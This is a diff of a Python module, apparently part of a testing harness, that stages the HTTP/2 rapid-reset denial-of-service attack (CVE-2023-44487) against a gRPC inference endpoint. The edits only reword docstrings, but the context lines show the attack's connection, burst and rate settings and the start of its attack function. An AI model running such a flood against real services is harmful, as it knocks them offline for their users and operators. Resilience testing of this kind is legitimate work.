@@ -1,4 +1,4 @@
-"""Calls that are begun and reset at once, by the thousand (CVE-2023-44487)."""
+"""Thousands of calls that are reset right after they begin (CVE-2023-44487)."""
 
 from __future__ import annotations
 
@@ -12,12 +12,12 @@ TITLE = "calls that are reset as soon as they are begun"
 CONNECTIONS = 4
 BURST = 50
 PAUSE_S = 0.02
-"""10,000 calls a second."""
+"""Gives 10,000 calls per second."""
 GENERATE = "/veneer.v1.InferenceService/GenerateStream"
 
 
 async def attack(target: Target) -> list[str]:
-    """The server may drop such connections; another one begins at once."""
+    """The server may drop such connections; a new one is opened at once."""
 
     async def one(ends: float) -> int:
         begun = 0
